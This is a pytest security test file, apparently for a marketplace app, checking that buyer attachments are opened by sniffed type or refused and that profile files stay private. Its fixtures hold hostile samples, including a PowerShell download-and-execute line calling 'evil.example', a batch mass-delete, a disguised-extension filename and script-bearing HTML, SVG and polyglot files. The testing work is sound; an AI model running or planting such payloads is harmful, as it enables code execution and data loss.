"""Attacks 3, 4 and 9: what a buyer's file becomes on the seller's disk, and who can read it.

Files are opened only as a copy named for their sniffed type (`.txt` for any text), programs,
scripts and web pages never; the profile is private to its owner whatever the umask.
"""

from __future__ import annotations

import base64
import io
import os
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from security_testkit import Target  # type: ignore[import-not-found]

from app.policy.attachments import sniff_media_type
from app.services.attachments import OpenRefused, export_for_opening, safe_export_name
from app.storage.store import Store

MINIMAL_PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def _zip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(name, data)
    return buf.getvalue()


POLYGLOT = MINIMAL_PDF + _zip("run.js", b"WScript.Echo(1)")

OPENED_AS_TEXT = {
    "run.bat": b"@echo off\r\ndel /q *\r\n",
    "x.ps1": b"Invoke-WebRequest http://evil.example | iex\n",
    "x.js": b"WScript.Echo('hi');\n",
    "x.url": b"[InternetShortcut]\nURL=file:///C:/Windows/System32/calc.exe\n",
    "x.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c 'id'\n",
    "invoice\u202efdp.exe": b"just text\n",
}
REFUSED = {
    "page.html": HTML,
    "photo.jpg": HTML,
    "app.hta": b"<hta:application id=x><script>alert(1)</script>",
    "logo.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "setup.pdf": b"MZ\x90\x00" + b"\x00" * 60,
    "manual.pdf": POLYGLOT,
}


@pytest.fixture
def wide_umask() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


@pytest.mark.parametrize("name", sorted(OPENED_AS_TEXT))
def test_text_is_opened_as_txt_whatever_its_name(tmp_path: Path, name: str) -> None:
    blob = tmp_path / "blob"
    blob.write_bytes(OPENED_AS_TEXT[name])
    opened = export_for_opening(blob, name, tmp_path / "exports")
    assert opened.suffix == ".txt" and opened.parent == tmp_path / "exports"
    assert "\u202e" not in opened.name
    assert opened.read_bytes() == OPENED_AS_TEXT[name]


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_programs_scripts_and_pages_are_never_opened(tmp_path: Path, name: str) -> None:
    blob = tmp_path / "blob"
    blob.write_bytes(REFUSED[name])
    with pytest.raises(OpenRefused) as refused:
        export_for_opening(blob, name, tmp_path / "exports")
    assert name in str(refused.value) and "could run code" in str(refused.value)
    assert not (tmp_path / "exports").exists() or not any((tmp_path / "exports").iterdir())


def test_documents_keep_their_own_extension(tmp_path: Path) -> None:
    blob = tmp_path / "blob"
    blob.write_bytes(MINIMAL_PDF)
    assert export_for_opening(blob, "manual.pdf", tmp_path / "e").name == "manual.pdf"
    assert export_for_opening(blob, "manual.exe", tmp_path / "e").name == "manual.pdf"
    assert safe_export_name("photo.JPEG", "image/jpeg") == "photo.JPEG"


def test_markup_and_polyglots_are_not_what_their_names_say() -> None:
    assert sniff_media_type(HTML) == "text/html"
    assert sniff_media_type(b"\xef\xbb\xbf \n<html><body>x") == "text/html"
    assert sniff_media_type(REFUSED["logo.svg"]) == "image/svg+xml"
    assert sniff_media_type(POLYGLOT[:8192], POLYGLOT) == "application/zip"
    assert sniff_media_type(MINIMAL_PDF) == "application/pdf"
    assert sniff_media_type(b"a < b, and <3 to you") == "text/plain"


def test_the_relay_removes_html_named_jpg_and_polyglot_pdf(target: Target) -> None:
    atts = [
        {"name": "photo.jpg", "contentBase64": base64.b64encode(HTML).decode()},
        {"name": "manual.pdf", "contentBase64": base64.b64encode(POLYGLOT).decode()},
        {"name": "fine.pdf", "contentBase64": base64.b64encode(MINIMAL_PDF).decode()},
    ]
    target.seller("alice")
    r = target.message("alice", "anna@example.net", attachments=atts)
    assert r.status_code == 200, r.text
    removed = {a["name"]: a for a in r.json()["removedAttachments"]}
    assert set(removed) == {"photo.jpg", "manual.pdf"}
    assert {a["reason"] for a in removed.values()} == {"type"}


def _mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


@pytest.mark.skipif(os.name != "posix", reason="POSIX modes")
def test_the_profile_is_private_whatever_the_umask(tmp_path: Path, wide_umask: None) -> None:
    root = tmp_path / "profile"
    store = Store.open(root)
    try:
        with store.write():
            pass
        sha = store.blobs.put_bytes(b"buyer's file")
        blob = store.blobs.path_for(sha)
        opened = export_for_opening(blob, "notes.txt", store.profile.exports)
    finally:
        store.close()
    assert _mode(root) == 0o700
    for folder in (store.profile.blobs, blob.parent, store.profile.exports):
        assert _mode(folder) == 0o700, folder
    for f in (store.profile.database, blob, opened):
        assert _mode(f) == 0o600, f
    for side in root.glob("inbox.sqlite3-*"):
        assert _mode(side) == 0o600, side


@pytest.mark.skipif(os.name != "posix", reason="POSIX modes")
def test_an_older_world_readable_profile_is_narrowed(tmp_path: Path, wide_umask: None) -> None:
    root = tmp_path / "profile"
    Store.open(root).close()
    root.chmod(0o755)
    (root / "inbox.sqlite3").chmod(0o644)
    Store.open(root).close()
    assert _mode(root) == 0o700 and _mode(root / "inbox.sqlite3") == 0o600
